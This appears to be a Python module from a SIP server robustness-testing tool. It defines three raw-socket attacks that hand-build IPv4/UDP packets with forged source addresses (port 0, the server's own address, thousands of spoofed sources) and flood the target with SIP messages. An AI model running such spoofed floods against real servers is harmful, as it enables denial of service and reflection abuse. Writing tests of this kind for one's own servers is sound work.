"""Attacks by datagrams with a forged source, which need raw sockets (on Linux: root or CAP_NET_RAW)."""

from __future__ import annotations

import itertools
import socket
import struct
import time
from typing import TYPE_CHECKING

from .registry import Attack, add
from .sip import request, response

if TYPE_CHECKING:
    from collections.abc import Callable

    from .peer import Siege

_PAUSE = 0.002
Source = tuple[str, int]


def datagram(source: Source, target: Source, data: bytes) -> bytes:
    """An IPv4 packet with UDP in it; the kernel fills in the sum of its header, and 0 is no sum of UDP."""
    udp = struct.pack("!HHHH", source[1], target[1], 8 + len(data), 0) + data
    addresses = socket.inet_aton(source[0]) + socket.inet_aton(target[0])
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0) + addresses + udp


def can_forge() -> bool:
    """Whether raw sockets are to be had."""
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close()
    except PermissionError:
        return False
    return True


def _forge(name: str, description: str, source: Callable[[Siege, int], Source]) -> None:
    def run(siege: Siege, _chosen: tuple[str, ...]) -> None:
        target = siege.targets["udp"]
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
            for number in itertools.count():
                if siege.is_over:
                    return
                make = response if number % 3 == 0 else request
                data = make("udp", f"forged{number}")
                raw.sendto(datagram(source(siege, number), target, data), target)
                siege.count["datagrams"] += 1
                time.sleep(_PAUSE)

    add(Attack(name, ("udp",), description, run, needs="raw"))


_forge("port-zero", "datagrams from port 0", lambda _siege, _n: ("127.66.0.1", 0))
_forge(
    "own-address",
    "datagrams from the server's own address: an answer would be its own input",
    lambda siege, _n: siege.targets["udp"],
)
_forge(
    "many-sources",
    "a request from each of thousands of addresses",
    lambda _siege, n: (f"127.68.{n >> 8 & 255}.{n & 255}", 1024 + n % 60000),
)
